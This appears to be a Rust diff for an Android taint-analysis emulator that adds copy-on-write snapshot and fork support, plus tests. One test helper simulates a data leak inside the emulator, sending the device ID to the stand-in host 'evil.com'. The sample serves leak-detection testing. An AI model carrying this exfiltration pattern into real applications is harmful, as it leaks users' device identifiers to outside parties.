@@ -49,6 +49,7 @@ impl std::fmt::Display for Mode {
     }
 }
 
+#[derive(Clone)]
 enum AnalysisBox {
     Vanilla(VanillaAnalysis),
     TaintDroid(TaintDroidAnalysis),
@@ -67,6 +68,18 @@ impl AnalysisBox {
             AnalysisBox::NDroid(a) => a.as_mut(),
             AnalysisBox::DroidScope(a) => a.as_mut(),
             AnalysisBox::Reference(a) => a.as_mut(),
+        }
+    }
+
+    /// Rebinds any slot-pinned cache the analysis holds (the NDroid
+    /// handler cache) to the forked memory's epoch — carried contents
+    /// stay valid because snapshot forks move memory and cache as one
+    /// unit.
+    fn rebind_epoch(&mut self, epoch: u64) {
+        match self {
+            AnalysisBox::NDroid(a) => a.rebind_cache_epoch(epoch),
+            AnalysisBox::Reference(a) => a.inner_mut().rebind_cache_epoch(epoch),
+            _ => {}
         }
     }
 }
@@ -88,8 +101,12 @@ pub struct NDroidSystem {
     pub trace: TraceLog,
     /// Guest instruction budget for the whole session.
     pub budget: u64,
-    /// Host-function table (JNI + libc + libm).
-    pub table: HostTable,
+    /// Host-function table (JNI + libc + libm). Behind `Rc` because
+    /// it is immutable once installed and holds boxed closures (not
+    /// `Clone`): snapshot forks share it for the cost of a refcount
+    /// bump instead of re-running `install_all` + `install_jni`,
+    /// which would otherwise dominate the fork.
+    pub table: std::rc::Rc<HostTable>,
     /// Kernel task table (input to the OS-level view reconstructor).
     pub tasks: TaskWriter,
     /// Decoded-instruction cache for the guest interpreter (page-wise
@@ -173,6 +190,7 @@ impl NDroidSystem {
         let mut table = HostTable::new();
         install_all(&mut table);
         install_jni(&mut table);
+        let table = std::rc::Rc::new(table);
         let mut tasks = TaskWriter::new();
         // The usual Android cast: zygote and system_server exist in the
         // kernel task list alongside the app under analysis, so the
@@ -457,6 +475,103 @@ impl NDroidSystem {
         self.dvm.gc();
         self.trace.push("gc", format!("compaction #{}", self.dvm.heap.gc_cycles));
     }
+
+    /// Captures a copy-on-write [`Snapshot`] of the entire system.
+    ///
+    /// The snapshot is an immutable image: guest memory pages, the
+    /// paged taint shadow and the DVM heap objects are `Rc`-shared
+    /// with it rather than copied, so capturing costs O(page-table)
+    /// and each [`Snapshot::fork`] the same — pages are deep-copied
+    /// lazily, one at a time, on first write after the fork. The
+    /// original system remains fully usable; its subsequent mutations
+    /// never bleed into the snapshot (or vice versa).
+    pub fn snapshot(&self) -> Snapshot {
+        Snapshot {
+            sys: self.fork_clone(),
+        }
+    }
+
+    /// The one fork path, used symmetrically by [`NDroidSystem::snapshot`]
+    /// (system → frozen image) and [`Snapshot::fork`] (frozen image →
+    /// runnable system), so both directions share the exact same
+    /// coherency rules:
+    ///
+    /// - guest memory is [`Memory::fork`]ed: pages `Rc`-shared, a
+    ///   **fresh epoch** drawn so any *foreign* slot-pinned cache that
+    ///   later sees this memory self-clears instead of serving stale
+    ///   decodes;
+    /// - the decode, superblock and handler caches are cloned and then
+    ///   `rebind_epoch`-ed to the fork's epoch: their contents were
+    ///   built against byte-identical pages with identical write
+    ///   generations, so they stay warm and their hit/miss/invalidation
+    ///   counters replay exactly as a fresh run would produce them;
+    /// - the provenance ring is forked (sealed shared base + private
+    ///   tail) and the forked handle re-wired into the DVM, shadow
+    ///   state and kernel so all four views keep appending to *one*
+    ///   ring per fork;
+    /// - the host-function table — immutable after installation — is
+    ///   `Rc`-shared outright.
+    fn fork_clone(&self) -> NDroidSystem {
+        let mem = self.mem.fork();
+        let epoch = mem.epoch();
+        let mut icache = self.icache.clone();
+        icache.rebind_epoch(epoch);
+        let mut blocks = self.blocks.clone();
+        blocks.rebind_epoch(epoch);
+        let mut analysis = self.analysis.clone();
+        analysis.rebind_epoch(epoch);
+        let prov = self.prov.fork();
+        let mut dvm = self.dvm.clone();
+        dvm.prov = prov.clone();
+        let mut shadow = self.shadow.clone();
+        shadow.prov = prov.clone();
+        let mut kernel = self.kernel.clone();
+        kernel.prov = prov.clone();
+        NDroidSystem {
+            cpu: self.cpu.clone(),
+            mem,
+            dvm,
+            shadow,
+            kernel,
+            trace: self.trace.clone(),
+            budget: self.budget,
+            table: std::rc::Rc::clone(&self.table),
+            tasks: self.tasks.clone(),
+            icache,
+            blocks,
+            analysis,
+            mode: self.mode,
+            prov,
+        }
+    }
+}
+
+/// A frozen copy-on-write image of an [`NDroidSystem`], captured by
+/// [`NDroidSystem::snapshot`]. Cheap to hold (it `Rc`-shares every
+/// page-sized piece of state with whoever captured it) and cheap to
+/// [`fork`](Snapshot::fork) from — boot an app once, warm it up, then
+/// fan out hundreds of divergent scenarios from the same image
+/// without paying the boot cost per run.
+#[derive(Debug)]
+pub struct Snapshot {
+    sys: NDroidSystem,
+}
+
+impl Snapshot {
+    /// A fresh, fully runnable system continuing from this image.
+    /// Every fork is independent: writes privatize pages lazily and
+    /// never disturb the snapshot or sibling forks, and a forked run
+    /// produces a [`RunReport`] identical to what a freshly booted
+    /// system driven the same way would produce (the determinism gate
+    /// in `crates/apps` pins this across all engines).
+    pub fn fork(&self) -> NDroidSystem {
+        self.sys.fork_clone()
+    }
+
+    /// The mode the underlying system was booted in.
+    pub fn mode(&self) -> Mode {
+        self.sys.mode
+    }
 }
 
 #[cfg(test)]
@@ -546,6 +661,66 @@ mod tests {
                 .unwrap();
             assert_eq!(sys.leaks().len(), 1, "{mode}: pure-Java leak caught");
         }
+    }
+
+    /// Drives the canonical pure-Java leak through `sys`.
+    fn java_leak(sys: &mut NDroidSystem) {
+        let (v, t) = sys
+            .dvm
+            .invoke_by_name(
+                "Landroid/telephony/TelephonyManager;",
+                "getDeviceId",
+                &[],
+                &mut ndroid_dvm::interp::NoNatives,
+            )
+            .unwrap();
+        let dest = sys.dvm.new_string("evil.com", Taint::CLEAR);
+        sys.dvm
+            .invoke_by_name(
+                "Ljava/net/Socket;",
+                "send",
+                &[(dest, Taint::CLEAR), (v, t)],
+                &mut ndroid_dvm::interp::NoNatives,
+            )
+            .unwrap();
+    }
+
+    #[test]
+    fn forked_run_reports_equal_fresh_run() {
+        let mut p = Program::new();
+        install_framework(&mut p);
+        let snap = NDroidSystem::new(p.clone(), Mode::NDroid).snapshot();
+        let mut forked = snap.fork();
+        java_leak(&mut forked);
+        let mut fresh = NDroidSystem::new(p, Mode::NDroid);
+        java_leak(&mut fresh);
+        assert_eq!(forked.report(), fresh.report());
+        assert_eq!(forked.leaks().len(), 1);
+    }
+
+    #[test]
+    fn snapshot_isolates_parent_and_forks() {
+        let mut p = Program::new();
+        install_framework(&mut p);
+        let mut parent = NDroidSystem::new(p, Mode::NDroid);
+        let snap = parent.snapshot();
+
+        // Mutate the parent heavily after capturing: its divergence
+        // must never bleed into the image or later forks.
+        java_leak(&mut parent);
+        parent.mem.write_bytes(0x7000, &[0xAA; 64]);
+        parent.force_gc();
+        assert_eq!(parent.leaks().len(), 1);
+
+        let mut a = snap.fork();
+        assert!(a.leaks().is_empty(), "fork predates the parent's leak");
+        assert_eq!(a.mem.read_u8(0x7000), 0, "parent writes stayed private");
+        java_leak(&mut a);
+
+        // A sibling fork is isolated from `a` too.
+        let b = snap.fork();
+        assert!(b.leaks().is_empty());
+        assert_eq!(a.leaks().len(), 1);
     }
 
     #[test]
